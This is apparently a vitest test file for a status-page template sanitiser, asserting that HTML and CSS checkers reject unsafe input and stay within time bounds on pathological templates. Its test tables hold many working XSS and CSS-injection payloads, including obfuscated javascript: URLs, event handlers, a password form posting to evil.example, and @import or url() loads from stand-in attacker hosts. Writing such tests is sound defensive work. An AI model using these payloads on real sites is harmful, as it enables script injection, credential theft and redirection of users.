import { describe, expect, it } from "vitest";
import { findUnsafeCss } from "./check-css.ts";
import { findUnsafeHtml } from "./check-html.ts";
import { findTemplateIssues } from "./check-template.ts";

const SAFE_TEMPLATE = `<!doctype html>
<!-- Ours -->
<header class="top" id="top"><img src="https://cdn.example/logo.svg" alt="Acme" width="80"><img src="/logo.png" alt=""><h1>Caf&eacute; &amp; co</h1></header>
<nav aria-label="Main"><a href="#now" target="_blank" rel="noopener">Now</a> <a href="/history">Before</a> <a href="mailto:ops@example.com">Mail</a> <A HREF='http://example.com/?a=1&b=2'>Home</A></nav>
<main id="now">{{header}} {{ overall_status }}<details open><summary>More</summary><ol start="2"><li>1 < 2<li>Two</ol></details>{{services_list}}</main><br/><hr>`;

const SAFE_CSS = `@media (400px <= width <= 700px) { main { color: red; background: url(https://cdn.example/a.png) no-repeat } }
@font-face { font-family: "Own"; src: url("https://cdn.example/own.woff2") format("woff2") }
:root { --accent: #fff; --empty:; } .a:hover::before { content: "x{"; color: var(--accent, rgb(0 0 0 / 50%)) } /* { */
main { & > p { margin: 0 } width: calc(100% - 2rem) !important; background-image: image-set("https://cdn.example/a.png" 1x, linear-gradient(red, blue) 2x) }`;

it("finds nothing in a safe template", () => {
  expect(findTemplateIssues({ html: SAFE_TEMPLATE, css: SAFE_CSS })).toEqual([]);
  expect(findTemplateIssues({ html: "" })).toEqual([]);
});

describe("unsafe HTML", () => {
  it.each([
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://a.example/x'onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'></mi></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<img src="//evil.example/x">',
    '<img src="\\\\evil.example/x">',
    '<img src="http://example.com/x">',
    '<img src="data:image/svg+xml,x">',
    '<img srcset="javascript:x 1x">',
    "<iframe src='https://example.com'></iframe>",
    "<form action='https://evil.example'><input name=password></form>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<object data=x></object>",
    "<template><script>1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p style='background:url(javascript:x)'>x</p>",
    "<div formaction=x>x</div>",
    "<custom-element>x</custom-element>",
    "<p {{header}}>x</p>",
    '<a title="{{header}}">x</a>',
    "<textarea></textarea><plaintext>",
    "<div>".repeat(101),
  ])("%s", (html) => {
    expect(findUnsafeHtml(html)).not.toEqual([]);
  });

  it("is told once for each thing", () => {
    expect(findUnsafeHtml("<script>1</script><script>2</script><p onclick=x style=y>z</p>")).toEqual([
      "The tag <script> is not allowed. Scripts are never executed on a status page.",
      "The attribute onclick of <p> is not allowed. Scripts are never executed on a status page.",
      "The attribute style of <p> is not allowed. Give it a class and put styles into the CSS.",
    ]);
  });
});

describe("unsafe CSS", () => {
  it.each([
    '@import "https://evil.example/a.css";',
    '@\\69mport "x";',
    "@IMPORT url(https://evil.example);",
    '@charset "utf-7";',
    "a { background: url(http://example.com/a.png) }",
    "a { background: URL( 'javascript:alert(1)' ) }",
    "a { background: u\\72l(//evil.example) }",
    "a { background: url(data:image/svg+xml,x) }",
    "a { background: url(/local.png) }",
    "a { --x: url(http://evil.example) }",
    "a { color: var(--x, url(http://evil.example)) }",
    'a { background: image-set("http://evil.example/a" 1x) }',
    'a { --u: "http://evil.example"; background: image-set(var(--u) 1x) }',
    "@supports (background: url(http://evil.example)) { a { color: red } }",
    "a { width: expression(alert(1)) }",
    "a { width: exp\\72 ession(alert(1)) }",
    "a { behavior: url(https://evil.example/x.htc) }",
    "a { b\\65havior: none }",
    "a { -moz-binding: none }",
    "a { filter: progid:DXImageTransform.Microsoft.Alpha(opacity=1) }",
    "a { color: red",
    "a { color: red } }",
    'a { content: "x',
    "a { background: url(https://cdn.example/x",
    "a { color: red } /* open",
    "a { color red }",
    "/* </style><script>alert(1)</script> */",
    "<!-- a { color: red } -->",
    "a { b: { url(http://evil.example) } }",
    `a { width: ${"calc(".repeat(60)}1${")".repeat(60)} }`,
  ])("%s", (css) => {
    expect(findUnsafeCss(css)).not.toEqual([]);
  });

  it("is told with its line", () => {
    expect(findUnsafeCss('a { color: red }\n@import "x";\nb { behavior: none }')).toEqual(["Line 2: @import is not allowed.", "Line 3: The property behavior is not allowed."]);
  });
});

it("an unknown placeholder is named, once", () => {
  expect(findTemplateIssues({ html: "<p>{{head}} {{ head }} {{header}} {{}} {{constructor}}</p>" }).map(({ code, path, message }) => ({ code, path, name: /{{.*}}/.exec(message)?.[0] }))).toEqual(
    ["{{head}}", "{{}}", "{{constructor}}"].map((name) => ({ code: "UNKNOWN_PLACEHOLDER", path: "/template/html", name })),
  );
});

it.each([
  { name: "tags", html: "<".repeat(65_000) },
  { name: "open tags", html: "<i>".repeat(21_000) },
  { name: "unknown tags", html: "<x1>".repeat(16_000) },
  { name: "attributes", html: `<p ${"a ".repeat(32_000)}>` },
  { name: "comments", html: "<!--".repeat(16_000) },
  { name: "placeholders", html: "{{".repeat(32_000) },
  { name: "entities", html: "&amp".repeat(16_000) },
  { name: "blocks", html: "", css: "a{".repeat(32_000) },
  { name: "calculations", html: "", css: `a{b:${"calc(".repeat(13_000)}` },
  { name: "selectors", html: "", css: ":not(".repeat(13_000) },
  { name: "colons", html: "", css: ":".repeat(65_000) },
  { name: "declarations", html: "", css: `a{${"b:c;".repeat(16_000)}}` },
  { name: "rules", html: "", css: "a{}".repeat(21_000) },
  { name: "paragraphs", html: "<p>x".repeat(16_000) },
  { name: "bad declarations", html: "", css: `a{${"b;".repeat(32_000)}}` },
  { name: "css strings", html: "", css: '"'.repeat(65_000) },
])("a hostile template of many $name is judged in bounded time", ({ html, css }) => {
  const begun = process.cpuUsage();
  const issues = findTemplateIssues({ html, ...(css !== undefined && { css }) });
  const { user, system } = process.cpuUsage(begun);
  expect(user + system).toBeLessThan(10_000_000);
  expect(issues.length).toBeLessThanOrEqual(20);
});
